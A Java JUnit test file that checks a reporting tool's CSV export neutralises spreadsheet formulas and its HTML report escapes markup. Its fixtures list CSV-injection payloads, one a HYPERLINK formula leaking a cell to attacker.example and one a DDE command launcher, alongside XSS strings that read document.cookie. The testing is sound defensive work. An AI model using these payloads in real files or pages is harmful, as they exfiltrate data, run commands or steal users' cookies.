package io.commpulse.reliability;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.commpulse.catalog.ResultFormat;
import io.commpulse.report.render.HtmlReport;
import java.io.IOException;
import java.io.StringWriter;
import java.util.List;
import java.util.Locale;
import org.apache.spark.sql.Row;
import org.apache.spark.sql.RowFactory;
import org.apache.spark.sql.types.DataTypes;
import org.apache.spark.sql.types.StructType;
import org.junit.jupiter.api.Test;

/**
 * The texts of the hostile corpus (comm_log/formula_and_markup.csv, social_comments/markup.jsonl),
 * which ingest stores verbatim, stay inert in the outputs: {@code sql --format csv} and the HTML
 * report.
 */
class HostileOutputTest {
  static final List<String> FORMULAS =
      List.of(
          "=HYPERLINK(\"http://attacker.example/?leak=\"&A1,\"click me\")",
          "+SUM(1+1)*cmd|' /C calc'!A0",
          "-2+3",
          "@SUM(1)",
          "\t=1+1",
          "\r=1+1");
  static final List<String> MARKUP =
      List.of(
          "<script>alert('x')</script><img src=x onerror=alert(1)>",
          "<script>alert(document.cookie)</script>",
          "mail me </td></tr><b>bold</b>");

  @Test
  void noCsvCellStartsWithAFormulaCharacter() throws IOException {
    StructType schema = new StructType().add("topic", DataTypes.StringType);
    StringWriter out = new StringWriter();
    ResultFormat.CSV.write(
        schema, FORMULAS.stream().map(t -> (Row) RowFactory.create(t)).iterator(), out);
    List<String> cells = parseSingleColumnCsv(out.toString());
    assertEquals("topic", cells.get(0));
    assertEquals(FORMULAS.size(), cells.size() - 1, out.toString());
    for (int i = 0; i < FORMULAS.size(); i++) {
      String cell = cells.get(i + 1);
      assertFalse("=+-@\t\r".indexOf(cell.charAt(0)) >= 0, "live formula in CSV: " + cell);
      assertEquals("'" + FORMULAS.get(i), cell, "the text itself is kept after the quote");
    }
  }

  @Test
  void markupFromTheDataIsEscapedInHtml() {
    for (String text : MARKUP) {
      String html = HtmlReport.escape(text);
      assertFalse(html.contains("<") || html.contains(">"), html);
      assertFalse(html.toLowerCase(Locale.ROOT).contains("<script"), html);
      assertTrue(html.contains("&lt;"), html);
    }
    assertEquals(
        "&lt;img src=x onerror=alert(1)&gt; &quot;&#39;&amp;",
        HtmlReport.escape("<img src=x onerror=alert(1)> \"'&"));
  }

  /** RFC 4180, one column: quoted cells may hold commas, quotes and line breaks. */
  private static List<String> parseSingleColumnCsv(String csv) {
    List<String> cells = new java.util.ArrayList<>();
    StringBuilder cell = new StringBuilder();
    boolean quoted = false;
    for (int i = 0; i < csv.length(); i++) {
      char c = csv.charAt(i);
      if (quoted) {
        if (c == '"' && i + 1 < csv.length() && csv.charAt(i + 1) == '"') {
          cell.append('"');
          i++;
        } else if (c == '"') {
          quoted = false;
        } else {
          cell.append(c);
        }
      } else if (c == '"') {
        quoted = true;
      } else if (c == '\n') {
        cells.add(cell.toString());
        cell.setLength(0);
      } else {
        cell.append(c);
      }
    }
    return cells;
  }
}
